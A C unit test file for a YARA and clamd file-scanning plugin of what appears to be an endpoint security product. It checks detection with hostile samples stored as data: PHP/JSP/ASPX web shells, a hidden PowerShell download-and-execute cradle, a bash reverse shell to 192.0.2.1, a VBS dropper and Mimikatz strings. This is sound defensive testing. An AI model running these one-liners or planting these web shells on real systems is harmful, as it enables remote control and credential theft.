/* test_yara.c - files written on this machine, through the worker: what is found, what is not, and what a hostile file costs. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "engine.h"
#include "testhost.h"

extern const struct mmr_plugin mmr_plugin_yara;

static struct mmr_testhost *th;
static char dir[64];

static int setup(void **state)
{
    (void)state;
    snprintf(dir, sizeof dir, "/tmp/mamori-yara-XXXXXX");
    return mkdtemp(dir) ? 0 : -1;
}

static int teardown(void **state)
{
    char cmd[128];
    (void)state;
    mmr_testhost_free(th);
    th = NULL;
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
    return system(cmd);
}

static void start(const char *key, const char *value, const char *key2, const char *value2)
{
    struct mmr_error err = {.struct_size = sizeof err};
    const char *const cfg[] = {"clamd", "", key, value, key2, value2, NULL};
    const char *const with_clamd[] = {key, value, key2, value2, NULL};
    th = mmr_testhost_new();
    mmr_testhost_use_real_clock(th);
    bool has = key && strcmp(key, "clamd") == 0;
    if (mmr_testhost_add(th, &mmr_plugin_yara, has ? with_clamd : cfg, &err) != 0)
        fail_msg("%s", err.text);
}

/* The file is written and the watch on files says so. */
static void written(const char *name, const void *p, size_t n, const char *plugin)
{
    char path[256];
    uint8_t buf[2048];
    struct mmr_event ev;
    struct mmr_error err = {.struct_size = sizeof err};
    snprintf(path, sizeof path, "%s/%s", dir, name);
    FILE *f = fopen(path, "wb");
    assert_non_null(f);
    assert_int_equal(fwrite(p, 1, n, f), n);
    assert_int_equal(fclose(f), 0);
    mmr_event_begin(&ev, buf, sizeof buf, "file.change", MMR_CLASS_FILE, 3, mmr_testhost_time(th), 1);
    mmr_event_str(&ev, "mamori.plugin", plugin);
    mmr_event_str(&ev, "device.hostname", "PC1");
    mmr_event_str(&ev, "file.path", path);
    mmr_event_str(&ev, "process.file.path", "/usr/bin/wget");
    mmr_event_int(&ev, "process.pid", 77);
    assert_int_equal(mmr_event_end(&ev), 0);
    assert_int_equal(mmr_testhost_event(th, 0, buf, ev.len, &err), 0);
}

static void text(const char *name, const char *p)
{
    written(name, p, strlen(p), "org.mamori.files");
}

static void settle(int rounds)
{
    for (int i = 0; i < rounds; i++)
        mmr_testhost_poll(th, 20);
}

/* A file that must be found, behind all that was written before it: so those have been looked into. */
static void mark(int n)
{
    char name[32], rule[128];
    snprintf(name, sizeof name, "mark%d.txt", n);
    snprintf(rule, sizeof rule, "%s/%s", dir, name);
    text(name, "X5O!P%@AP[4\\PZX54(P^)7CC)7}" "$EICAR-STANDARD-ANTIVIRUS" "-TEST-FILE!$H+H*");
    for (int i = 0; i < 600 && mmr_testhost_find_text(th, "finding", "file.path", rule) < 0; i++)
        mmr_testhost_poll(th, 50);
    assert_true(mmr_testhost_find_text(th, "finding", "file.path", rule) >= 0);
}

static const struct {
    const char *rule, *name, *text;
} bad[] = {
    {"web_shell_php", "a.php", "<?php @eval($_POST['x']); ?>"},
    {"web_shell_php", "b.php", "<?php system( $_GET [\"cmd\"] );"},
    {"web_shell_java_or_asp", "c.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"},
    {"web_shell_java_or_asp", "d.aspx", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>"},
    {"script_that_fetches_and_runs", "e.ps1", "powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')"},
    {"script_host_dropper", "f.vbs", "Set h=CreateObject(\"MSXML2.XMLHTTP\")\nSet s=CreateObject(\"ADODB.Stream\")\ns.SaveToFile p\nCreateObject(\"WScript.Shell\").Run p"},
    {"office_macro_that_starts_programs", "g.doc", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 ... AutoOpen .. CreateObject(\"WScript.Shell\") .. MSXML2.XMLHTTP"},
    {"document_with_equation_exploit", "h.rtf", "{\\rtf1{\\object\\objupdate{\\*\\objdata 0105000002000000 4571756174696F6E2E33 }}}"},
    {"pdf_that_starts_programs", "i.pdf", "%PDF-1.4 << /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>"},
    {"tool_that_reads_passwords_from_memory", "j.exe", "MZ.... sekurlsa::logonpasswords privilege::debug lsasrv.dll"},
    {"implant_with_reflective_loader", "k.dll", "MZ.... ReflectiveLoader beacon.x64.dll"},
    {"coin_miner", "l", "\x7f" "ELF.... stratum+tcp://pool donate-level xmrig"},
    {"shell_script_that_calls_home", "m.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"},
    {"ransom_note", "READ_ME.txt", "All your files have been encrypted. Your personal ID: 12. Go to abc.onion to buy the decryption tool for 1 bitcoin."},
};

static void every_rule_of_the_pack_finds_what_it_is_for(void **state)
{
    (void)state;
    start(NULL, NULL, NULL, NULL);
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        text(bad[i].name, bad[i].text);
    static const uint8_t lnk[] = "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0 powershell -w hidden http://192.0.2.1/a";
    written("n.lnk", lnk, sizeof lnk - 1, "org.mamori.files");
    mark(1);
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        char path[256], rule[128];
        snprintf(path, sizeof path, "%s/%s", dir, bad[i].name);
        int ev = mmr_testhost_find_text(th, "finding", "file.path", path);
        snprintf(rule, sizeof rule, "yara.%s", bad[i].rule);
        if (ev < 0 || strcmp(mmr_testhost_text(th, ev, "mamori.rule"), rule) != 0)
            fail_msg("%s: %s", bad[i].name, ev < 0 ? "nothing found" : mmr_testhost_text(th, ev, "mamori.rule"));
        assert_int_equal(strlen(mmr_testhost_text(th, ev, "file.hashes.sha256")), 64);
        assert_string_equal(mmr_testhost_text(th, ev, "actor.process.file.path"), "/usr/bin/wget");
        assert_string_equal(mmr_testhost_text(th, ev, "process.file.path"), ""); /* the writer is not what has to be stopped */
        assert_string_equal(mmr_testhost_text(th, ev, "mamori.potential"), "high");
    }
    assert_true(mmr_testhost_find_text(th, "finding", "mamori.rule", "yara.shortcut_that_runs_a_hidden_script") >= 0);
    assert_int_equal(mmr_testhost_refusals(th, NULL), 0);
}

static void ordinary_files_and_other_peoples_paths_are_left_alone(void **state)
{
    static const struct {
        const char *name, *text;
    } good[] = {
        {"index.php", "<?php\n$name = htmlspecialchars($_GET['name']);\necho \"Hello $name\";\nif ($_SERVER['REQUEST_METHOD'] == 'POST') { system('date'); }\n"},
        {"install.ps1", "$u = 'https://example.com/setup.msi'\n(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\setup.msi\")\nStart-Process msiexec -Wait\n"},
        {"backup.sh", "#!/bin/sh\ntar czf - /home | ssh backup@example.com 'cat > home.tgz'\n"},
        {"net.sh", "#!/bin/bash\nexec 3</dev/null\nnc -z example.com 443 && echo up\n"},
        {"letter.txt", "Your files have been moved to the new server. Your personal ID for the login is on paper. The recovery key is in the safe."},
        {"page.html", "<html><script>var x = new XMLHttpRequest();</script></html>"},
        {"login.js", "function login(){ eval('1+1'); }"},
        {"macro.doc", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 .. AutoOpen .. MsgBox \"Hello\""},
        {"prog.exe", "MZ.... This program cannot be run in DOS mode. lsasrv.dll wdigest.dll"},
        {"doc.pdf", "%PDF-1.4 << /OpenAction [3 0 R /Fit] >>"},
        {"admin.vbs", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"net use Z: \\\\server\\share\""},
        {"notes.dat", "<?php eval($_POST['x']);"}, /* no program by its name or beginning */
    };
    (void)state;
    start(NULL, NULL, NULL, NULL);
    for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
        text(good[i].name, good[i].text);
    written("theirs.php", bad[0].text, strlen(bad[0].text), "org.mamori.seat"); /* another machine's path */
    mark(1);
    settle(5);
    if (mmr_testhost_count(th, "finding") != 1) {
        mmr_testhost_dump(th);
        fail_msg("%d findings, expected the mark alone", mmr_testhost_count(th, "finding"));
    }
}

static void a_worker_that_dies_or_hangs_costs_one_file(void **state)
{
    char path[256];
    (void)state;
    snprintf(path, sizeof path, "%s/slow.yar", dir);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs("rule slow { condition: for all i in (1..2000000000) : (for all j in (1..2000000000) : (i + j > 0)) }\n", f);
    fclose(f);
    start("rules", path, "timeout", "1s");
    text("one.sh", "#!/bin/sh\n");
    for (int i = 0; i < 600 && mmr_testhost_logged(th, MMR_LOG_WARN, NULL) == 0; i++)
        mmr_testhost_poll(th, 50);
    const char *last = "";
    (void)mmr_testhost_logged(th, MMR_LOG_WARN, &last);
    if (!strstr(last, "longer than 1 s"))
        fail_msg("%s", last);
    mmr_testhost_free(th);

    start(NULL, NULL, NULL, NULL);
    mark(1);
    char cmd[128];
    snprintf(cmd, sizeof cmd, "ps -o pid= --ppid %d > '%s/pids'", getpid(), dir);
    assert_int_equal(system(cmd), 0);
    snprintf(path, sizeof path, "%s/pids", dir);
    f = fopen(path, "r");
    int pid, killed = 0;
    while (fscanf(f, "%d", &pid) == 1) /* the shell is gone by now; the worker is what is left */
        killed += kill(pid, SIGKILL) == 0;
    fclose(f);
    assert_true(killed >= 1);
    text("between.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"); /* may be lost with it, or not */
    mark(2); /* and it goes on */
}

static void files_over_the_limit_links_and_what_is_gone_are_passed_over(void **state)
{
    char path[256];
    (void)state;
    start("max_file", "64K", NULL, NULL);
    size_t n = 100000;
    char *big = malloc(n);
    assert_non_null(big);
    memset(big, ' ', n);
    memcpy(big, bad[0].text, strlen(bad[0].text));
    written("big.php", big, n, "org.mamori.files");
    free(big);
    text("gone.php", bad[0].text);
    snprintf(path, sizeof path, "%s/gone.php", dir);
    assert_int_equal(unlink(path), 0);
    char link[256];
    text("target.dat", bad[0].text);
    text("link.php", "x");
    snprintf(link, sizeof link, "%s/link.php", dir);
    snprintf(path, sizeof path, "%s/target.dat", dir);
    assert_int_equal(unlink(link), 0);
    assert_int_equal(symlink(path, link), 0);
    mark(1);
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
}

static void a_wrong_rule_is_refused_with_its_place(void **state)
{
    static const struct {
        const char *text, *want;
    } rows[] = {
        {"rule a {\n strings:\n  $x = \"a\"\n condition:\n  $y\n}", "line 6"},
        {"include \"/etc/passwd\"\nrule a { condition: true }", "line 1"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct mmr_error err = {.struct_size = sizeof err};
        char path[256];
        snprintf(path, sizeof path, "%s/r.yar", dir);
        FILE *f = fopen(path, "w");
        assert_non_null(f);
        fputs(rows[i].text, f);
        fclose(f);
        const char *const cfg[] = {"rules", path, NULL};
        th = mmr_testhost_new();
        assert_int_equal(mmr_testhost_add(th, &mmr_plugin_yara, cfg, &err), MMR_ECONFIG);
        if (!strstr(err.text, path) || !strstr(err.text, rows[i].want))
            fail_msg("%s", err.text);
        mmr_testhost_free(th);
        th = NULL;
    }
}

/* ---- clamd: its INSTREAM as the manual has it ---- */

struct fake {
    int fd;
    size_t bytes;
    _Atomic int asked; /* by the other thread */
    bool is_short; /* answers before it has everything, and closes */
};

static bool all(int fd, void *p, size_t n)
{
    for (size_t at = 0; at < n;) {
        ssize_t r = recv(fd, (char *)p + at, n - at, 0);
        if (r <= 0)
            return false;
        at += (size_t)r;
    }
    return true;
}

static void *fake_clamd(void *ctx)
{
    struct fake *k = ctx;
    for (;;) {
        char head[10], *data = NULL;
        uint8_t size[4];
        size_t n = 0;
        int c = accept(k->fd, NULL, NULL);
        if (c < 0)
            return NULL;
        k->asked++;
        bool is_ok = all(c, head, sizeof head) && memcmp(head, "zINSTREAM", 10) == 0;
        while (is_ok && all(c, size, 4)) {
            size_t len = (size_t)size[0] << 24 | (size_t)size[1] << 16 | (size_t)size[2] << 8 | size[3];
            if (!len)
                break;
            void *more = realloc(data, n + len + 1);
            data = more ? more : data;
            is_ok = more && all(c, data + n, len);
            n += len;
        }
        k->bytes = n;
        const char *say = !is_ok ? "INSTREAM size limit exceeded. ERROR" : memmem(data, n, "made up", 7) ? "stream: Test.Made.Up-1 FOUND" : "stream: OK";
        (void)send(c, say, strlen(say) + 1, MSG_NOSIGNAL);
        free(data);
        close(c);
    }
}

static void clamd_is_asked_over_its_socket_when_it_is_there(void **state)
{
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    struct fake k = {0};
    pthread_t t;
    (void)state;
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s/clamd.ctl", dir);
    start("clamd", sa.sun_path, NULL, NULL);
    mark(1); /* absent: the rules alone */
    k.fd = socket(AF_UNIX, SOCK_STREAM, 0);
    assert_int_equal(bind(k.fd, (struct sockaddr *)&sa, sizeof sa), 0);
    assert_int_equal(listen(k.fd, 8), 0);
    assert_int_equal(pthread_create(&t, NULL, fake_clamd, &k), 0);
    size_t n = 300000; /* several chunks */
    char *big = malloc(n);
    assert_non_null(big);
    memset(big, 'x', n);
    memcpy(big, "#!/bin/sh\n", 10);
    memcpy(big + n - 7, "made up", 7);
    written("a.sh", big, n, "org.mamori.files");
    free(big);
    mark(2);
    int ev = mmr_testhost_find_text(th, "finding", "mamori.rule", "clamd.Test.Made.Up-1");
    assert_true(ev >= 0);
    assert_true(k.asked >= 2);
    mmr_testhost_free(th);
    th = NULL;
    shutdown(k.fd, SHUT_RDWR);
    pthread_join(t, NULL);
    close(k.fd);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(every_rule_of_the_pack_finds_what_it_is_for, setup, teardown),
        cmocka_unit_test_setup_teardown(ordinary_files_and_other_peoples_paths_are_left_alone, setup, teardown),
        cmocka_unit_test_setup_teardown(a_worker_that_dies_or_hangs_costs_one_file, setup, teardown),
        cmocka_unit_test_setup_teardown(files_over_the_limit_links_and_what_is_gone_are_passed_over, setup, teardown),
        cmocka_unit_test_setup_teardown(a_wrong_rule_is_refused_with_its_place, setup, teardown),
        cmocka_unit_test_setup_teardown(clamd_is_asked_over_its_socket_when_it_is_there, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
